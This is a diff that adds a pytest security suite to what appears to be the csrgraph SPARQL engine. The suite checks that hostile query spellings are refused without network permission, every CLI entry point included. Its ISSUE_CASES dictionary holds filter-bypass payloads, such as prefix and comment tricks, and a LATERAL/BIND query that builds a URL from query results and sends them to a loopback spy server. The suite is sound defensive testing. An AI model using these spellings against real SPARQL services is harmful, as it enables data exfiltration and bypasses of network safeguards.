@@ -1,0 +1,178 @@
+"""Differential security suite: thousands of hostile spellings, a loopback spy, every entry point.
+
+Each spelling asks the engine to reach the spy (SERVICE, FROM, FROM NAMED). Without
+--allow-network every one must be refused with one ``Error:`` line and exit code 1, and the
+spy must see no connection. A positive control runs a sample with --allow-network and
+shows the spellings do reach the spy when allowed, so a silent spy means something.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from hostile import all_spellings, glued_spellings
+from spy import Spy
+
+from csrgraph.errors import QueryError
+from csrgraph.sparql import check, evaluate, run_query, sandbox
+
+#: The spellings the issue reported reaching a server (``{url}`` is the spy).
+ISSUE_CASES = {
+    "keyword-prefix": "PREFIX : <{url}a> PREFIX SERVICE: <urn:x:> "
+    "SELECT * { SERVICE: { ?s ?p ?o } }",
+    "comment-ends-at-cr": "SELECT * { #\rSERVICE <{url}b> { ?s ?p ?o } }",
+    "escaped-quote-in-string": 'SELECT * { FILTER("\\u0022") SERVICE <{url}c> { ?s ?p ?o } '
+    'FILTER("\\u0022") }',
+    "escaped-newline-in-string": 'SELECT * { FILTER("\\u000A#") SERVICE <{url}d> { ?s ?p ?o } }',
+    "lateral-bind-exfiltration": 'SELECT * { { ?s ?p ?o BIND(IRI(CONCAT("{url}", '
+    "ENCODE_FOR_URI(STR(?o)))) AS ?e) } LATERAL { SERVICE ?e { } } } LIMIT 1",
+    "from": "SELECT * FROM <{url}g> { ?s ?p ?o }",
+    "from-named": "SELECT * FROM NAMED <{url}g> { GRAPH ?g { ?s ?p ?o } }",
+}
+
+
+@pytest.fixture(scope="module")
+def spy():
+    """One spy for the module; tests compare its count before and after."""
+    with Spy() as server:
+        yield server
+
+
+def _refused(text: str) -> QueryError:
+    with pytest.raises(QueryError) as caught:
+        run_query(text)
+    assert caught.value.exit_code == 1
+    assert "\n" not in str(caught.value)
+    return caught.value
+
+
+def _engine(text: str) -> object:
+    """Evaluate with no check at all, network allowed: what the engine does with the text."""
+    prefixes = {"spy": "http://127.0.0.1:9/"}
+    return evaluate.here(text, {}, prefixes, [], "<query>", None, True)
+
+
+def test_the_generator_makes_thousands_of_spellings() -> None:
+    spellings = all_spellings("http://127.0.0.1:9/")
+    assert len(spellings) >= 5000
+    assert len(set(spellings)) == len(spellings)
+
+
+def test_every_generated_spelling_is_refused_by_the_check() -> None:
+    spellings = all_spellings("http://127.0.0.1:9/")
+    for text in spellings:
+        with pytest.raises(QueryError) as caught:
+            check(text)
+        assert caught.value.exit_code == 1, text
+        assert "\n" not in str(caught.value), text
+
+
+@pytest.mark.parametrize("case", sorted(ISSUE_CASES))
+def test_issue_case_is_refused_and_the_spy_stays_silent(spy: Spy, case: str) -> None:
+    before = spy.count
+    _refused(ISSUE_CASES[case].replace("{url}", spy.url))
+    assert spy.count == before
+
+
+@pytest.mark.parametrize("case", [c for c in sorted(ISSUE_CASES) if not c.startswith("from")])
+def test_issue_case_reaches_the_spy_when_allowed(spy: Spy, case: str) -> None:
+    """Positive control: the engine itself reads the spelling as a SERVICE call."""
+    before = spy.count
+    text = ISSUE_CASES[case].replace("{url}", spy.url)
+    with contextlib.suppress(Exception):
+        _engine(text)
+    assert spy.count > before
+
+
+def test_a_sample_through_the_engine_is_refused_and_reaches_the_spy_when_allowed(
+    spy: Spy,
+) -> None:
+    spellings = all_spellings(spy.url)
+    sample = spellings[:: max(1, len(spellings) // 150)] + glued_spellings(spy.url)
+    assert len(sample) >= 150
+    before = spy.count
+    for text in sample:
+        _refused(text)
+    assert spy.count == before
+    reached = 0
+    for text in sample[::4]:
+        start = spy.count
+        with contextlib.suppress(Exception):
+            _engine(text)
+        reached += spy.count > start
+    assert reached >= 10  # the spy and the generator work
+
+
+def test_the_evaluation_child_has_no_network_even_if_the_check_is_bypassed(spy: Spy) -> None:
+    if not sandbox.network_isolation_available():
+        pytest.skip("this kernel does not allow unprivileged network namespaces")
+    before = spy.count
+    text = f"SELECT * {{ SERVICE <{spy.url}z> {{ ?s ?p ?o }} }}"
+    with pytest.raises(Exception):  # noqa: B017 - any failure; no connection is the point
+        evaluate.in_child(text, {}, {}, [], "<query>", "SELECT", 30.0)
+    assert spy.count == before
+
+
+ENTRY_SAMPLE = 8
+
+
+def _entry_sample(url: str) -> list[str]:
+    spellings = all_spellings(url)
+    return [
+        *spellings[:: len(spellings) // ENTRY_SAMPLE][:ENTRY_SAMPLE],
+        ISSUE_CASES["comment-ends-at-cr"].replace("{url}", url),
+    ]
+
+
+@pytest.mark.parametrize("how", ["-e", "file", "stdin", "timeout", "store-dir"])
+def test_cli_entry_points_refuse_with_one_error_line(
+    spy: Spy, cli, tmp_path: Path, how: str, index_dir: Path
+) -> None:
+    before = spy.count
+    for number, text in enumerate(_entry_sample(spy.url)):
+        stdin = None
+        if how == "-e":
+            args = ["query", "-e", text]
+        elif how == "file":
+            path = tmp_path / f"q{number}.rq"
+            path.write_text(text, encoding="utf-8", newline="")
+            args = ["query", str(path)]
+        elif how == "stdin":
+            args, stdin = ["query", "-"], text
+        elif how == "timeout":
+            args = ["query", "--timeout", "5", "-e", text]
+        else:
+            args = ["query", "--store-dir", str(index_dir), "-e", text]
+        result = cli(*args, input=stdin)
+        assert result.exit_code == 1, (text, result.stderr)
+        lines = result.stderr.strip().splitlines()
+        assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
+    assert spy.count == before
+
+
+def test_the_installed_command_refuses_in_a_subprocess(spy: Spy) -> None:
+    before = spy.count
+    for text in _entry_sample(spy.url)[:3]:
+        done = subprocess.run(
+            [str(Path(sys.executable).with_name("csrgraph")), "query", "-e", text],
+            capture_output=True,
+            text=True,
+            timeout=120,
+        )
+        assert done.returncode == 1, done.stderr
+        assert done.stderr.startswith("Error: ") and done.stderr.count("\n") == 1
+    assert spy.count == before
+
+
+@pytest.fixture(scope="module")
+def index_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """An index of a small fixture file, for --store-dir."""
+    from csrgraph.index import build_index
+
+    folder = tmp_path_factory.mktemp("idx") / "store"
+    build_index([Path(__file__).parent / "fixtures" / "mini-data.ttl"], folder)
+    return folder
